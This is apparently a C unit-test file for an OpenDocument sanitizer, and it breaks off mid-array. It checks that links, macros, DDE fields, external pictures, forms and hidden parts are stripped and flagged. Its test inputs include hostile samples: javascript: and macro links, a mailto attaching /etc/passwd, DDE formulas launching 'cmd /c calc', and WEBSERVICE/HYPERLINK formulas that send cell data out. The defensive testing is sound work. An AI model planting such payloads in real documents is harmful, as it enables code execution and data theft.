/* odf_test.c - whole packages: what stays, what goes and under which finding, twice the same. */
#include "sanitize/odf/testing.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

/* One pixel, red. */
static const uint8_t png[] = {
	0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00,
	0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00, 0x00, 0x90, 0x77, 0x53, 0xde, 0x00, 0x00, 0x00,
	0x0c, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0x00, 0x00, 0x03, 0x01, 0x01, 0x00, 0xc9,
	0xfe, 0x92, 0xef, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
};
#define PNG (const char *)png, sizeof png

enum { NONE = FINDING_COUNT };

struct markup_case {
	const char *what, *in, *has, *lacks;
	unsigned finding;
	const char *profile;
};

static const struct markup_case texts[] = {
	{ "a paragraph", "<text:p text:style-name=\"標準\">一<text:s text:c=\"2\"/>二</text:p>",
	  "<text:p text:style-name=\"標準\">一<text:s text:c=\"2\"/>二</text:p>", "", NONE, NULL },
	{ "the order of children stays", "<text:p>a</text:p><text:h>b</text:h><text:p>c</text:p>",
	  "<text:p>a</text:p><text:h>b</text:h><text:p>c</text:p>", "", NONE, NULL },
	{ "web link", "<text:p><text:a xlink:href=\"https://example.jp/x\">y</text:a></text:p>",
	  "<text:a xlink:href=\"https://example.jp/x\">y</text:a>", "", NONE, NULL },
	{ "web link by a strict profile", "<text:p><text:a xlink:href=\"https://example.jp/x\">y</text:a></text:p>",
	  "<text:p>y</text:p>", "example", FINDING_ODF_LINK, "strict" },
	{ "place in the document", "<text:p><text:a xlink:href=\"#表1|table\">y</text:a></text:p>",
	  "xlink:href=\"#表1|table\"", "", NONE, NULL },
	{ "script link", "<text:p><text:a xlink:href=\"javascript:alert(1)\">y</text:a></text:p>", "<text:p>y</text:p>",
	  "javascript", FINDING_ODF_LINK, NULL },
	{ "macro link",
	  "<text:p><text:a xlink:href=\"vnd.sun.star.script:X.y?language=Basic\">y</text:a></text:p>",
	  "<text:p>y</text:p>", "vnd.sun", FINDING_ODF_LINK, NULL },
	{ "mail with a file", "<text:p><text:a xlink:href=\"mailto:a@b.jp?attach=/etc/passwd\">y</text:a></text:p>", "<text:p>y</text:p>",
	  "attach", FINDING_ODF_LINK, NULL },
	{ "file link", "<text:p><text:a xlink:href=\"file:///c:/x.exe\">y</text:a></text:p>", "<text:p>y</text:p>",
	  "file:", FINDING_ODF_LINK, NULL },
	{ "empty link", "<text:p><text:a xlink:href=\"\">y</text:a></text:p>", "<text:p>y</text:p>", "text:a", NONE, NULL },
	{ "link with an event",
	  "<text:p><text:a xlink:href=\"#a\"><office:event-listeners><script:event-listener script:language=\"ooo:script\""
	  " script:event-name=\"dom:click\" xlink:href=\"vnd.sun.star.script:a\"/></office:event-listeners>y</text:a></text:p>",
	  "<text:a xlink:href=\"#a\">y</text:a>", "script:event-", FINDING_ODF_EVENT, NULL },
	{ "remote picture",
	  "<text:p><draw:frame svg:width=\"1cm\"><draw:image xlink:href=\"http://e.example/t.png\"/></draw:frame></text:p>",
	  "<draw:frame svg:width=\"1cm\"/>", "example", FINDING_ODF_EXTERNAL, NULL },
	{ "picture of a share",
	  "<text:p><draw:frame><draw:image xlink:href=\"//10.0.0.1/t.png\"/></draw:frame></text:p>", "<draw:frame/>",
	  "10.0.0.1", FINDING_ODF_EXTERNAL, NULL },
	{ "picture out of the package",
	  "<text:p><draw:frame><draw:image xlink:href=\"../../t.png\"/></draw:frame></text:p>", "<draw:frame/>", "..",
	  FINDING_ODF_EXTERNAL, NULL },
	{ "picture out of the package, in disguise",
	  "<text:p><draw:frame><draw:image xlink:href=\"Pictures/%2e%2e/%2e%2e/t.png\"/></draw:frame></text:p>",
	  "<draw:frame/>", "t.png", FINDING_ODF_MISSING, NULL },
	{ "picture that is not there",
	  "<text:p><draw:frame><draw:image xlink:href=\"Pictures/none.png\"/></draw:frame></text:p>", "<draw:frame/>",
	  "none", FINDING_ODF_MISSING, NULL },
	{ "section of another document",
	  "<text:section text:name=\"s\"><text:section-source xlink:href=\"http://e.example/a.odt\"/><text:p>x</text:p>"
	  "</text:section>",
	  "<text:section text:name=\"s\"><text:p>x</text:p></text:section>", "example", FINDING_ODF_EXTERNAL, NULL },
	{ "section by DDE",
	  "<text:section text:name=\"s\"><office:dde-source office:dde-application=\"cmd\" office:dde-topic=\"t\""
	  " office:dde-item=\"i\"/><text:p>x</text:p></text:section>",
	  "<text:p>x</text:p>", "dde", FINDING_ODF_DDE, NULL },
	{ "DDE field", "<text:p>a<text:dde-connection text:connection-name=\"c\">b</text:dde-connection>c</text:p>",
	  "<text:p>abc</text:p>", "dde", FINDING_ODF_DDE, NULL },
	{ "DDE declarations",
	  "<text:dde-connection-decls><text:dde-connection-decl office:name=\"c\"/></text:dde-connection-decls><text:p/>",
	  "<office:text><text:p/></office:text>", "dde", FINDING_ODF_DDE, NULL },
	{ "macro field", "<text:p><text:execute-macro text:name=\"m\">run</text:execute-macro></text:p>",
	  "<text:p>run</text:p>", "macro", FINDING_ODF_MACRO, NULL },
	{ "script field", "<text:p>a<text:script script:language=\"JavaScript\">evil()</text:script></text:p>",
	  "<text:p>a</text:p>", "evil", FINDING_ODF_MACRO, NULL },
	{ "database field", "<text:p><text:database-display text:database-name=\"d\">v</text:database-display></text:p>",
	  "<text:p>v</text:p>", "database", FINDING_ODF_DATABASE, NULL },
	{ "field of the reader", "<text:p><text:sender-email>a@b</text:sender-email></text:p>", "<text:p>a@b</text:p>",
	  "sender", FINDING_ODF_FIELD, NULL },
	{ "fields that stay",
	  "<text:p><text:page-number text:select-page=\"current\">3</text:page-number><text:date text:fixed=\"true\">d"
	  "</text:date></text:p>",
	  "<text:page-number text:select-page=\"current\">3</text:page-number><text:date text:fixed=\"true\">d</text:date>",
	  "", NONE, NULL },
	{ "counts and references",
	  "<text:p><text:page-count style:num-format=\"一, 二, 三, ...\">六</text:page-count><text:reference-ref"
	  " text:ref-name=\"r\" text:reference-format=\"page\">1</text:reference-ref></text:p>",
	  "<text:page-count style:num-format=\"一, 二, 三, ...\">六</text:page-count><text:reference-ref"
	  " text:ref-name=\"r\" text:reference-format=\"page\">1</text:reference-ref>", "", NONE, NULL },
	{ "RDF", "<text:p><text:meta>a<text:span>b</text:span></text:meta></text:p>",
	  "<text:p>a<text:span>b</text:span></text:p>", "meta", NONE, NULL },
	{ "OLE object",
	  "<text:p><draw:frame><draw:object-ole xlink:href=\"./Object 9\"/></draw:frame></text:p>", "<draw:frame/>",
	  "ole", FINDING_ODF_OBJECT, NULL },
	{ "plug-in", "<text:p><draw:frame><draw:plugin xlink:href=\"a.swf\"/></draw:frame></text:p>", "<draw:frame/>",
	  "plugin", FINDING_ODF_MEDIA, NULL },
	{ "applet", "<text:p><draw:frame><draw:applet xlink:href=\"a\"/></draw:frame></text:p>", "<draw:frame/>",
	  "applet", FINDING_ODF_OBJECT, NULL },
	{ "frame in a frame", "<text:p><draw:frame><draw:floating-frame xlink:href=\"http://e\"/></draw:frame></text:p>",
	  "<draw:frame/>", "floating", FINDING_ODF_OBJECT, NULL },
	{ "hidden text", "<text:p><text:hidden-text text:condition=\"ooow:a == 1\" text:string-value=\"x\"/></text:p>",
	  "text:condition=\"ooow:a == 1\"", "", FINDING_ODF_HIDDEN_TEXT, NULL },
	{ "condition over a database", "<text:p><text:hidden-text text:condition=\"ooow:a.b.c == 1\"/></text:p>",
	  "<text:hidden-text/>", "a.b.c", FINDING_ODF_FORMULA_EXTERNAL, NULL },
	{ "tracked changes",
	  "<text:tracked-changes><text:changed-region text:id=\"c\"><text:deletion><office:change-info>"
	  "<dc:creator>甲</dc:creator></office:change-info><text:p>x</text:p></text:deletion></text:changed-region>"
	  "</text:tracked-changes>",
	  "<dc:creator>甲</dc:creator>", "", NONE, NULL },
	{ "a word's mark", "<text:p><field:fieldmark-start field:type=\"x.UNHANDLED\"><field:param field:name=\"n\""
			   " field:value=\"DDE\"/></field:fieldmark-start>a<field:fieldmark-end/></text:p>",
	  "<text:p>a</text:p>", "DDE", FINDING_ODF_FIELD, NULL },
	{ "a box to check",
	  "<text:p><field:fieldmark field:type=\"vnd.oasis.opendocument.field.FORMCHECKBOX\"><field:param"
	  " field:name=\"Checkbox_Checked\" field:value=\"true\"/></field:fieldmark></text:p>",
	  "field:value=\"true\"", "", NONE, NULL },
	{ "a mark that is kept", "<text:p><field:fieldmark-start field:type=\"x.UNHANDLED\"><field:param field:name=\"n\""
				 " field:value=\"DDE\"/></field:fieldmark-start>a<field:fieldmark-end/></text:p>",
	  "<field:fieldmark-start field:type=\"x.UNHANDLED\"/>a<field:fieldmark-end/>", "DDE", NONE, "keep" },
	{ "unknown elements", "<text:p>a<text:evil>b</text:evil></text:p>", "<text:p>a</text:p>", "evil",
	  FINDING_MARKUP_UNKNOWN, NULL },
	{ "picture in the markup that is none",
	  "<text:p><draw:frame><draw:image><office:binary-data>TVqQAAMAAAAEAAAA</office:binary-data></draw:image>"
	  "</draw:frame></text:p>",
	  "<draw:frame/>", "binary", NONE, NULL },
	{ "controls become their text",
	  "<office:forms><form:form><form:text form:id=\"c1\" form:value=\"v\" form:current-value=\"帯広\"/>"
	  "<form:checkbox form:id=\"c2\" form:label=\"はい\" form:current-state=\"checked\"/><form:listbox form:id=\"c3\">"
	  "<form:option form:label=\"no\"/><form:option form:label=\"yes\" form:selected=\"true\"/></form:listbox>"
	  "<form:radio form:id=\"c4\" form:label=\"r\"/><form:button form:id=\"c5\" form:label=\"送信\"/></form:form>"
	  "</office:forms><text:p><draw:control draw:control=\"c1\" svg:x=\"1cm\" text:anchor-type=\"as-char\"/>"
	  "<draw:control draw:control=\"c2\" svg:x=\"1cm\" text:anchor-type=\"char\"/><draw:control draw:control=\"c3\"/>"
	  "<draw:g><draw:control draw:control=\"c4\" text:anchor-type=\"as-char\"/></draw:g><draw:control draw:control=\"c5\"/><draw:control draw:control=\"c9\"/></text:p>",
	  "<text:p>帯広<draw:frame svg:x=\"1cm\" text:anchor-type=\"char\"><draw:text-box><text:p>☑ はい</text:p></draw:text-box>"
	  "</draw:frame><draw:frame><draw:text-box><text:p>yes</text:p></draw:text-box></draw:frame><draw:g>"
	  "<draw:frame text:anchor-type=\"as-char\"><draw:text-box><text:p>○ r</text:p></draw:text-box></draw:frame></draw:g>"
	  "<draw:frame><draw:text-box><text:p>送信</text:p></draw:text-box>"
	  "</draw:frame></text:p>",
	  "form:", FINDING_ODF_FORM, NULL },
	{ "controls are kept",
	  "<office:forms><form:form xlink:href=\"http://e.example/post\" form:name=\"f\"><form:text form:id=\"c1\""
	  " form:control-implementation=\"ooo:com.sun.star.evil\"><form:properties/></form:text></form:form></office:forms>"
	  "<text:p><draw:control draw:control=\"c1\"/></text:p>",
	  "<form:form form:name=\"f\"><form:text form:id=\"c1\"/></form:form>", "evil", FINDING_ODF_EXTERNAL, "keep" },
};

static const struct markup_case sheets[] = {
	{ "formula", "<table:table><table:table-row><table:table-cell table:formula=\"of:=SUM([.A1:.B2])\""
		     " office:value=\"3\"/></table:table-row></table:table>",
	  "<table:table-cell office:value=\"3\" table:formula=\"of:=SUM([.A1:.B2])\"/>", "", NONE, NULL },
	{ "DDE formula", "<table:table><table:table-row><table:table-cell office:value=\"3\" table:formula="
			 "\"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)\"/></table:table-row></table:table>",
	  "<table:table-cell office:value=\"3\"/>", "calc", FINDING_ODF_FORMULA, NULL },
	{ "web service", "<table:table><table:table-row><table:table-cell table:formula="
			 "\"of:=COM.MICROSOFT.WEBSERVICE(&quot;http://e&quot;&amp;[.A1])\"/></table:table-row></table:table>",
	  "<table:table-cell/>", "http", FINDING_ODF_FORMULA, NULL },
	{ "another document", "<table:table><table:table-row><table:table-cell office:value=\"1\" table:formula="
			      "\"of:=['file:///c:/a.ods'#$Sheet1.A1]\"/></table:table-row></table:table>",
	  "<table:table-cell office:value=\"1\"/>", "file:", FINDING_ODF_FORMULA_EXTERNAL, NULL },
	{ "table of another document",
	  "<table:table table:name=\"t\"><table:table-source xlink:href=\"file:///a.ods\"/><table:table-row/></table:table>",
	  "<table:table table:name=\"t\"><table:table-row/></table:table>", "file:", FINDING_ODF_EXTERNAL, NULL },
	{ "cells of another document",
	  "<table:table><table:table-row><table:table-cell><table:cell-range-source xlink:href=\"http://e\"/><text:p>1"
	  "</text:p></table:table-cell></table:table-row></table:table>",
	  "<table:table-cell><text:p>1</text:p></table:table-cell>", "http", FINDING_ODF_EXTERNAL, NULL },
	{ "macro of a validation",
	  "<table:content-validations><table:content-validation table:name=\"v\" table:condition="
	  "\"of:cell-content-is-between(1,[.A1])\"><table:error-macro table:execute=\"true\"/><office:event-listeners>"
	  "<script:event-listener/></office:event-listeners></table:content-validation></table:content-validations>",
	  "table:condition=\"of:cell-content-is-between(1,[.A1])\"", "macro", FINDING_ODF_EVENT, NULL },
	{ "database range",
	  "<table:database-ranges><table:database-range table:name=\"d\" table:target-range-address=\"Sheet1.A1:Sheet1.B2\">"
	  "<table:database-source-sql table:database-name=\"d\" table:sql-statement=\"select\"/></table:database-range>"
	  "</table:database-ranges>",
	  "table:target-range-address=\"Sheet1.A1:Sheet1.B2\"", "sql", FINDING_ODF_DATABASE, NULL },
	{ "pivot over a database",
	  "<table:data-pilot-tables><table:data-pilot-table table:name=\"p\"><table:source-service table:name=\"s\"/>"
	  "</table:data-pilot-table></table:data-pilot-tables>",
	  "<office:spreadsheet/>", "pilot", FINDING_ODF_DATABASE, NULL },
	{ "pivot over cells",
	  "<table:data-pilot-tables><table:data-pilot-table table:name=\"p\"><table:source-cell-range"
	  " table:cell-range-address=\"Sheet1.A1:Sheet1.B2\"/></table:data-pilot-table></table:data-pilot-tables>",
	  "table:cell-range-address=\"Sheet1.A1:Sheet1.B2\"", "", NONE, NULL },
	{ "pivot over another document",
	  "<table:data-pilot-tables><table:data-pilot-table table:name=\"p\"><table:source-cell-range"
	  " table:cell-range-address=\"'file:///a.ods'#$S.A1:.B2\"/></table:data-pilot-table></table:data-pilot-tables>",
	  "<office:spreadsheet/>", "file:", FINDING_ODF_FORMULA_EXTERNAL, NULL },
	{ "hidden rows", "<table:table><table:table-row table:visibility=\"filter\"/></table:table>",
	  "table:visibility=\"filter\"", "", FINDING_ODF_HIDDEN_ROWS, NULL },
	{ "hyperlink", "<table:table><table:table-row><table:table-cell table:formula="
		       "\"of:=HYPERLINK(&quot;http://e.example/?&quot;&amp;[.A1])\"/></table:table-row></table:table>",
	  "<table:table-cell/>", "example", FINDING_ODF_LINK, NULL },
	{ "DDE links of the sheet", "<table:dde-links><table:dde-link/></table:dde-links>", "<office:spreadsheet/>", "dde",
	  FINDING_ODF_DDE, NULL },
};

static const struct markup_case slides[] = {
	{ "page moves",
	  "<draw:page><draw:rect><office:event-listeners><presentation:event-listener script:event-name=\"dom:click\""
	  " presentation:action=\"next-page\"/></office:event-listeners></draw:rect></draw:page>",
	  "<presentation:event-listener presentation:action=\"next-page\" script:event-name=\"dom:click\"/>", "", NONE, NULL },
	{ "to a page",
	  "<draw:page><draw:rect><office:event-listeners><presentation:event-listener presentation:action=\"show\""
	  " xlink:href=\"#page2\"/></office:event-listeners></draw:rect></draw:page>",
	  "presentation:action=\"show\" xlink:href=\"#page2\"", "", NONE, NULL },
	{ "to a file",
	  "<draw:page><draw:rect><office:event-listeners><presentation:event-listener presentation:action=\"show\""
	  " xlink:href=\"calc.exe\"/></office:event-listeners></draw:rect></draw:page>",
	  "<draw:page><draw:rect/></draw:page>", "calc", FINDING_ODF_EVENT, NULL },
	{ "to a program",
	  "<draw:page><draw:rect><office:event-listeners><presentation:event-listener presentation:action=\"execute\""
	  " xlink:href=\"calc.exe\"/></office:event-listeners></draw:rect></draw:page>",
	  "<draw:page><draw:rect/></draw:page>", "calc", FINDING_ODF_EVENT, NULL },
	{ "a verb", "<draw:page><anim:par><anim:command anim:command=\"verb\"/></anim:par></draw:page>",
	  "<draw:page><anim:par/></draw:page>", "verb", FINDING_ODF_EVENT, NULL },
	{ "sound", "<draw:page><anim:par><anim:audio xlink:href=\"file:///a.wav\"/></anim:par></draw:page>",
	  "<draw:page><anim:par/></draw:page>", "wav", FINDING_ODF_MEDIA, NULL },
	{ "comment", "<draw:page><office:annotation svg:x=\"1cm\"><dc:creator>c</dc:creator></office:annotation></draw:page>",
	  "<dc:creator>c</dc:creator>", "", NONE, NULL },
	{ "image map",
	  "<draw:page><draw:frame><draw:text-box/><draw:image-map><draw:area-circle xlink:href=\"file:///x\"/></draw:image-map>"
	  "</draw:frame></draw:page>",
	  "<draw:frame><draw:text-box/></draw:frame>", "area", FINDING_ODF_LINK, NULL },
};

static void
check(const struct markup_case *c, const char *kind, const char *head, const char *tail)
{
	own_buf struct buf content = { 0 }, text = { 0 };
	const char *profile = c->profile == NULL ? "rebuild" : c->profile;
	own_odf_tried struct odf_tried t = { 0 };
	struct odf_part parts[] = { { "content.xml", NULL, 0 }, { NULL, NULL, 0 } };

	(void)buf_printf(&content, "%s%s%s", head, c->in, tail);
	(void)buf_byte(&content, '\0');
	parts[0].text = (const char *)content.p;
	t = odf_try(profile, kind, parts);
	if (!t.ok || !odf_entry(&t, "content.xml", &text))
		fail_msg("%s: %s", c->what, t.e.text);
	if (strstr((const char *)text.p, c->has) == NULL)
		fail_msg("%s: no %s in %s", c->what, c->has, (const char *)text.p);
	if (c->lacks[0] != '\0' && strstr(strstr((const char *)text.p, "<office:body"), c->lacks) != NULL)
		fail_msg("%s: %s in %s", c->what, c->lacks, (const char *)text.p);
	if (c->finding != NONE && odf_found(&t, (enum finding_code)c->finding) == 0)
		fail_msg("%s: no finding", c->what);
	if (c->finding == NONE && t.findings.n > 0 && strstr(c->in, "binary") == NULL)
		fail_msg("%s: %s", c->what, finding_name(t.findings.row[0].code));
	if (!odf_settled(&t, profile))
		fail_msg("%s: not settled", c->what);
}

#define CHECK(cases, kind, body)                                                                                      \
	do {                                                                                                          \
		static const char whole[] = body("\1");                                                               \
		own_buf struct buf b = { 0 };                                                                         \
		char *cut;                                                                                            \
		(void)buf_put(&b, whole, sizeof whole);                                                               \
		cut = strchr((char *)b.p, '\1');                                                                      \
		*cut = '\0';                                                                                          \
		for (size_t i = 0; i < sizeof(cases) / sizeof *(cases); i++)                                          \
			check(&(cases)[i], kind, (const char *)b.p, cut + 1);                                         \
	} while (0)

static void
markup(void **state)
{
	(void)state;
	CHECK(texts, "text", ODF_TEXT);
	CHECK(sheets, "spreadsheet", ODF_SHEET);
	CHECK(slides, "presentation", ODF_SLIDES);
}

#define CHART_ROOT                                                                                                    \
	"<office:document-content" ODF_SPACES "><office:scripts><office:script/></office:scripts><office:body>"       \
	"<office:chart><chart:chart chart:class=\"chart:bar\" xlink:href=\"..\"><chart:plot-area/></chart:chart>"     \
	"</office:chart></office:body></office:document-content>"
#define FORMULA_ROOT                                                                                                  \
	"<!DOCTYPE math:math PUBLIC \"-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN\" \"math.dtd\">"            \
	"<math:math xmlns:math=\"http://www.w3.org/1998/Math/MathML\"><math:semantics><math:mrow><math:mi>x</math:mi>" \
	"</math:mrow><math:annotation math:encoding=\"StarMath 5.0\">x</math:annotation><math:annotation"             \
	" encoding=\"StarMath 5.0\">y</math:annotation><math:annotation encoding=\"Other\">secret</math:annotation>"  \
	"</math:semantics></math:math>"

static const struct odf_part whole[] = {
	{ "content.xml",
	  ODF_TEXT("<text:p><draw:frame><draw:object xlink:href=\"./Object 7\"/><draw:image xlink:href="
		   "\"./ObjectReplacements/Object%207\"/></draw:frame><draw:frame><draw:image xlink:href="
		   "\"Pictures/abc.png\"/></draw:frame><draw:frame><draw:image xlink:href=\"./Pictures/abc.png\"/>"
		   "</draw:frame><draw:frame><draw:object xlink:href=\"Object%208/\"/></draw:frame><draw:frame>"
		   "<draw:object xlink:href=\"./Object 9\"/></draw:frame><draw:frame><draw:object xlink:href="
		   "\"./file\"/></draw:frame></text:p>"),
	  0 },
	{ "styles.xml",
	  "<office:document-styles" ODF_SPACES "><office:styles><draw:fill-image draw:name=\"f\" xlink:href=\"Pictures/"
	  "abc.png\"/><draw:fill-image draw:name=\"g\" xlink:href=\"http://e\"/></office:styles><office:font-face-decls>"
	  "<style:font-face style:name=\"F\"><svg:font-face-src><svg:font-face-uri xlink:href=\"Fonts/a.ttf\"/>"
	  "</svg:font-face-src></style:font-face></office:font-face-decls></office:document-styles>",
	  0 },
	{ "meta.xml",
	  "<office:document-meta" ODF_SPACES "><office:meta><meta:generator>OpenOffice.org/3.1$Win32</meta:generator>"
	  "<dc:title>題</dc:title><meta:template xlink:href=\"file:///t.ott\"/></office:meta></office:document-meta>",
	  0 },
	{ "settings.xml",
	  "<office:document-settings" ODF_SPACES "><office:settings><config:config-item-set config:name="
	  "\"ooo:configuration-settings\"><config:config-item config:name=\"TabOverMargin\" config:type=\"boolean\"> true "
	  "</config:config-item><config:config-item config:name=\"PrinterName\" config:type=\"string\">p"
	  "</config:config-item></config:config-item-set></office:settings></office:document-settings>",
	  0 },
	{ "Object 7/content.xml", CHART_ROOT, 0 },
	{ "Object 8/content.xml", FORMULA_ROOT, 0 },
	{ "Object 9/content.xml", "<broken", 0 },
	{ "file", "OLE", 0 },
	{ "ObjectReplacements/Object 7", PNG },
	{ "Pictures/abc.png", PNG },
	{ "Pictures/unused.png", PNG },
	{ "Basic/Standard/Module1.xml", "Sub Main", 0 },
	{ "Scripts/python/a.py", "x", 0 },
	{ "META-INF/documentsignatures.xml", "x", 0 },
	{ "Thumbnails/thumbnail.png", PNG },
	{ "VersionList.xml", "x", 0 },
	{ "Fonts/a.ttf", "x", 0 },
	{ "manifest.rdf", "x", 0 },
	{ "Object 7/Configurations2/x", "x", 0 },
	{ NULL, NULL, 0 },
};

static void
package(void **state)
{
	static const char *const there[] = { "mimetype", "styles.xml", "content.xml", "meta.xml", "settings.xml",
					     "Pictures/1.png", "Object 1/content.xml", "Object 2/content.xml",
					     "ObjectReplacements/Object 1", "META-INF/manifest.xml" };
	static const enum finding_code codes[] = {
		FINDING_ODF_MACRO, FINDING_ODF_SIGNATURE, FINDING_ODF_HISTORY, FINDING_ODF_FONT, FINDING_ODF_PART,
		FINDING_ODF_OBJECT, FINDING_ODF_EXTERNAL, FINDING_ODF_SETTING, FINDING_IMAGE_THUMBNAIL,
		FINDING_XML_DOCTYPE,
	};
	own_odf_tried struct odf_tried t = odf_try("rebuild", "text-template", whole);
	own_buf struct buf text = { 0 };
	struct err e;
	own_zip struct zip *z = NULL;
	size_t i;

	(void)state;
	if (!t.ok)
		fail_msg("%s", t.e.text);
	z = zip_new(buf_bytes(&t.out), NULL, NULL, &e);
	assert_non_null(z);
	assert_int_equal(zip_count(z), sizeof there / sizeof *there);
	for (i = 0; i < sizeof there / sizeof *there; i++)
		assert_non_null(zip_find(z, there[i]));
	assert_string_equal(zip_at(z, 0)->name, "mimetype");
	assert_int_equal(zip_at(z, 0)->method, 0);
	for (i = 0; i < sizeof codes / sizeof *codes; i++)
		if (odf_found(&t, codes[i]) == 0)
			fail_msg("no %s", finding_name(codes[i]));
	assert_true(odf_entry(&t, "META-INF/manifest.xml", &text));
	assert_non_null(strstr((char *)text.p, "full-path=\"/\" manifest:media-type=\"" ODF_MIMETYPE "text-template\""));
	assert_non_null(strstr((char *)text.p, "full-path=\"Object 1/\" manifest:media-type=\"" ODF_MIMETYPE "chart\""));
	assert_non_null(strstr((char *)text.p, "full-path=\"Object 2/\" manifest:media-type=\"" ODF_MIMETYPE "formula\""));
	assert_true(odf_entry(&t, "content.xml", &text));
	assert_non_null(strstr((char *)text.p, "xlink:href=\"./ObjectReplacements/Object 1\""));
	assert_non_null(strstr((char *)text.p, "xlink:href=\"./Object 2\""));
	assert_null(strstr((char *)text.p, "abc"));
	assert_true(odf_entry(&t, "Object 2/content.xml", &text));
	assert_non_null(strstr((char *)text.p, ">y</math:annotation>"));
	assert_null(strstr((char *)text.p, "secret"));
	assert_true(odf_entry(&t, "settings.xml", &text));
	assert_non_null(strstr((char *)text.p, ">true</config:config-item>"));
	assert_null(strstr((char *)text.p, "Printer"));
	assert_true(odf_entry(&t, "meta.xml", &text));
	assert_non_null(strstr((char *)text.p, "<dc:title>題</dc:title>"));
	assert_true(odf_settled(&t, "rebuild"));
}

static void
description_goes(void **state)
{
	own_odf_tried struct odf_tried t = odf_try("strict", "text", whole);
	own_buf struct buf text = { 0 };

	(void)state;
	assert_true(t.ok);
	assert_true(odf_found(&t, FINDING_ODF_METADATA) > 0);
	assert_true(odf_entry(&t, "meta.xml", &text));
	assert_non_null(strstr((char *)text.p, "generator"));
	assert_null(strstr((char *)text.p, "title"));
}

/* A picture in the markup is decoded, made anew, and is the same the second time. */
static void
picture_in_markup(void **state)
{
	static const char b64[] = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElE\n QVR4nGP4z8AAAAMBAQDJ/pLv"
				  "AAAAAElFTkSuQmCC";
	own_buf struct buf content = { 0 }, text = { 0 };
	own_odf_tried struct odf_tried t = { 0 };
	struct odf_part parts[] = { { "content.xml", NULL, 0 }, { NULL, NULL, 0 } };

	(void)state;
	(void)buf_printf(&content, "%s%s%s", "<office:document-content" ODF_SPACES "><office:body><office:text><text:p>"
			 "<draw:frame><draw:image><office:binary-data>", b64, "</office:binary-data></draw:image>"
			 "</draw:frame></text:p></office:text></office:body></office:document-content>");
	(void)buf_byte(&content, '\0');
	parts[0].text = (const char *)content.p;
	t = odf_try("rebuild", "text", parts);
	assert_true(t.ok);
	assert_true(odf_entry(&t, "content.xml", &text));
	assert_non_null(strstr((char *)text.p, "<office:binary-data>iVBORw0KGgo"));
	assert_true(odf_settled(&t, "rebuild"));
}

static void
refused(void **state)
{
	static const struct {
		const char *what, *kind;
		struct odf_part parts[3];
		enum err_code code;
	} rows[] = {
		{ "another body", "spreadsheet", { { "content.xml", ODF_TEXT(""), 0 } }, ERR_MALFORMED },
		{ "no content", "text", { { "styles.xml", "", 0 } }, ERR_MALFORMED },
		{ "no body", "text",
		  { { "content.xml", "<office:document-content" ODF_SPACES "/>", 0 } }, ERR_MALFORMED },
		{ "another root", "text", { { "content.xml", "<html/>", 0 } }, ERR_MALFORMED },
		{ "entities", "text",
		  { { "content.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>", 0 } }, ERR_MALFORMED },
		{ "a database", "base", { { "content.xml", ODF_TEXT(""), 0 } }, ERR_DENIED },
		{ "a broken manifest", "text",
		  { { "content.xml", ODF_TEXT(""), 0 }, { "META-INF/manifest.xml", "<a", 0 } }, ERR_MALFORMED },
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof rows / sizeof *rows; i++) {
		own_odf_tried struct odf_tried t = odf_try("rebuild", rows[i].kind, rows[i].parts);

		if (t.ok || (t.e.code != rows[i].code && t.e.code != ERR_DENIED))
			fail_msg("%s: %s", rows[i].what, t.ok ? "passed" : t.e.text);
	}
	{
		own_odf_tried struct odf_tried t = odf_try_bytes("rebuild", NULL, VIEW("<?xml version=\"1.0\"?><office:d"));

		assert_false(t.ok);
		assert_int_equal(t.e.code, ERR_MALFORMED);
	}
	{
		own_odf_tried struct odf_tried t = odf_try_bytes("rebuild", NULL, VIEW("PK\3\4 and no archive"));

		assert_false(t.ok);
	}
}

/* Documents in documents end at their depth, and what was written of them goes with them. */
static void
deep(void **state)
{
	enum { DEEP = 12 };
	static const char content[] = ODF_TEXT("<text:p><draw:frame><draw:image xlink:href=\"p.png\"/></draw:frame>"
					       "<draw:frame><draw:object xlink:href=\"O\"/></draw:frame></text:p>");
	char names[DEEP * 2][64];
	struct odf_part parts[DEEP * 2 + 1] = { 0 };
	size_t i, k, at = 0;

	(void)state;
	for (i = 0; i < DEEP; i++) {
		char folder[64] = "";

		for (k = 0; k < i; k++)
			strcat(folder, "O/");
		(void)snprintf(names[at], 64, "%scontent.xml", folder);
		parts[at] = (struct odf_part){ names[at], content, 0 };
		at++;
		(void)snprintf(names[at], 64, "%sp.png", folder);
		parts[at] = (struct odf_part){ names[at], PNG };
		at++;
	}
	{
		own_odf_tried struct odf_tried t = odf_try("rebuild", "text", parts);

		assert_false(t.ok);
		assert_int_equal(t.e.code, ERR_LIMIT);
	}
}

/* Parts that are no pictures, and references in strange spellings. */
static void
pictures(void **state)
{
	static const struct odf_part parts[] = {
		{ "content.xml",
		  ODF_TEXT("<text:p><draw:frame><draw:image xlink:href=\".//Pictures/abc.png\"/></draw:frame><draw:frame>"
			   "<draw:image xlink:href=\"Pictures/a.svm\"/></draw:frame><draw:frame>"
			   "<table:table><table:table-column/><table:table-row><table:table-cell/></table:table-row></table:table>"
			   "<draw:image xlink:href=\"Pictures/TablePreview1.svm\"/></draw:frame><draw:frame><draw:image xlink:href="
			   "\"Pictures/TablePreview2.svm\"/></draw:frame><draw:frame><draw:image xlink:href="
			   "\"Pictures/a.txt\"/></draw:frame><draw:frame><draw:image xlink:href=\"Pictures/a.exe\"/>"
			   "</draw:frame><draw:frame><draw:image xlink:href=\"Pictures/a.txt\"/></draw:frame><draw:frame>"
			   "<draw:image><office:binary-data>aGVsbG8=</office:binary-data></draw:image></draw:frame></text:p>"),
		  0 },
		{ "styles.xml", "", 0 },
		{ "settings.xml", "<broken", 0 },
		{ "Pictures/abc.png", PNG },
